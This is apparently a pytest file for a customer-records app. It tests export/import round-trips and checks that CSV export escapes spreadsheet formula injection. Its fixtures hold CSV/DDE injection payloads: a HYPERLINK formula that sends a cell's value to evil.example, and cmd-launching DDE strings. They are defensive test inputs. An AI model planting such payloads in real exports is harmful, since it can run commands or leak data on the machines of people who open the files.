"""Export then import into the same store changes nothing: not the count, not a field, not
a version; over the API and the CLI, in both modes, with values that are hard to carry
(spreadsheet formulas, quotes, newlines, local phone numbers, Unicode)."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from typer.testing import CliRunner

from clientbook.cli import app as cli
from clientbook.settings import get_settings
from clientbook.transfer.formats import Format
from clientbook.transfer.importer import Mode
from tests.factories import Factory, StoreCtx
from tests.transfer.test_endpoints import import_url, ndjson
from tests.transfer.test_export import CUSTOMERS

TRICKY: list[dict[str, Any]] = [
    {
        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "last_name": "+cmd|' /C calc'!A0",
        "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "title": "-2+3",
        "company": {"name": "'=quoted already", "tax_id": "''two quotes"},
        "email": "zoë@bücher.example",
        "metadata": {"formula": "=1+1", "note": "a\r\nb"},
        "labels": [{"key": "=x", "value": "@y"}],
    },
    {"first_name": "'plain quote", "last_name": "-", "phone": "0612345678"},
    {"display_name": "Tabbed\tmiddle", "loyalty_card_number": "=CARD", "is_active": False},
]


async def _fill(client: httpx.AsyncClient, ctx: StoreCtx) -> None:
    for body in [*CUSTOMERS, *TRICKY]:
        response = await client.post(f"{ctx.base}/customers", json=body, headers=ctx.admin.headers)
        assert response.status_code == 201, response.text


async def _documents(client: httpx.AsyncClient, ctx: StoreCtx) -> list[dict[str, Any]]:
    response = await client.get(
        f"{ctx.base}/customers", params={"limit": 100}, headers=ctx.admin.headers
    )
    return sorted(response.json()["data"], key=lambda c: c["id"])


@pytest.mark.parametrize("fmt", list(Format))
async def test_export_then_import_over_the_api_changes_nothing(
    client: httpx.AsyncClient, factory: Factory, fmt: Format
) -> None:
    ctx = await factory.store(country=None)  # "0612345678" stays as given
    await _fill(client, ctx)
    before = await _documents(client, ctx)
    exported = await client.get(
        f"{ctx.base}/customers/export", params={"format": fmt.value}, headers=ctx.admin.headers
    )
    assert exported.status_code == 200
    kind = "text/csv" if fmt is Format.csv else "application/x-ndjson"
    for mode in Mode:
        response = await client.post(
            import_url(ctx, mode=mode.value),
            content=exported.content,
            headers={**ctx.admin.headers, "content-type": kind},
        )
        rows, last = ndjson(response)
        assert {r["result"] for r in rows} == {"skipped"}, rows
        assert last["summary"]["rows"] == len(before)
        assert await _documents(client, ctx) == before


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    ctx = await factory.store(country="DE")
    await _fill(client, ctx)
    exported = await client.get(f"{ctx.base}/customers/export", headers=ctx.admin.headers)
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    cells = [cell for row in rows for cell in row.values() if cell]
    for cell in cells:
        dangerous = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        number = cell.lstrip("+-").replace(".", "").isdigit()
        assert not dangerous or number, cell
    first = next(row for row in rows if "HYPERLINK" in row["first_name"])
    assert first["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert first["last_name"] == "'+cmd|' /C calc'!A0"
    assert first["display_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["title"] == "'-2+3"
    assert (first["company_name"], first["company_tax_id"]) == (
        "''=quoted already",
        "'''two quotes",
    )
    assert json.loads(first["metadata"]) == {"formula": "=1+1", "note": "a\r\nb"}
    walk_in = next(row for row in rows if row["first_name"] == "Walk-in")
    assert walk_in["phone"] == "+48600700800"  # a plain number is left as it is
    plain = next(row for row in rows if row["last_name"] == "'-")
    assert plain["first_name"] == "''plain quote"
    json_lines = await client.get(
        f"{ctx.base}/customers/export", params={"format": "jsonl"}, headers=ctx.admin.headers
    )
    assert '"first_name":"=HYPERLINK(' in json_lines.text  # JSON Lines: as it is


async def test_a_row_with_an_id_updates_that_customer_even_with_a_new_email(
    client: httpx.AsyncClient, factory: Factory
) -> None:
    ctx = await factory.store()
    created = await client.post(
        f"{ctx.base}/customers",
        json={"first_name": "Ada", "email": "ada@example.com"},
        headers=ctx.admin.headers,
    )
    customer_id = created.json()["id"]
    content = f"id,first_name,email\n{customer_id},Ada,ada.lovelace@example.com\n"
    response = await client.post(
        import_url(ctx, mode="upsert"),
        content=content.encode(),
        headers={**ctx.admin.headers, "content-type": "text/csv"},
    )
    rows, last = ndjson(response)
    assert [r["result"] for r in rows] == ["updated"]
    assert last["summary"]["created"] == 0
    fetched = await client.get(f"{ctx.base}/customers/{customer_id}", headers=ctx.admin.headers)
    assert fetched.json()["email"] == "ada.lovelace@example.com"


runner = CliRunner()


def test_clientbook_export_then_import_changes_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLIENTBOOK_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("CLIENTBOOK_DATABASE_URL", raising=False)
    monkeypatch.setenv("CLIENTBOOK_LOG_LEVEL", "WARNING")
    get_settings.cache_clear()
    try:
        assert runner.invoke(cli, ["migrate"]).exit_code == 0
        assert runner.invoke(cli, ["create-store", "RT", "--name", "Round"]).exit_code == 0
        owner = runner.invoke(
            cli,
            ["create-user", "owner@rt.example", "--store", "RT", "--role", "owner"],
            input="long enough password\nlong enough password\n",
        )
        assert owner.exit_code == 0, owner.output
        rows = [*CUSTOMERS, *TRICKY]
        source = tmp_path / "source.jsonl"
        source.write_text("".join(json.dumps(row) + "\n" for row in rows))
        first = runner.invoke(cli, ["import", str(source), "--store", "RT"])
        assert first.exit_code == 0, first.output
        for fmt in ("csv", "jsonl"):
            exported = runner.invoke(cli, ["export", "--store", "RT", "--format", fmt])
            assert exported.exit_code == 0, exported.output
            file = tmp_path / f"export.{fmt}"
            file.write_text(exported.stdout)
            count = len(rows) + 2  # the store's own customer and the owner's
            for mode in ("skip", "upsert"):
                again = runner.invoke(cli, ["import", str(file), "--store", "RT", "--mode", mode])
                assert again.exit_code == 0, again.output
                assert again.stdout.startswith(
                    f"{count} rows: 0 created, 0 updated, {count} skipped, 0 errors"
                ), again.stdout
                after = runner.invoke(cli, ["export", "--store", "RT", "--format", fmt])
                assert after.stdout == exported.stdout
    finally:
        get_settings.cache_clear()
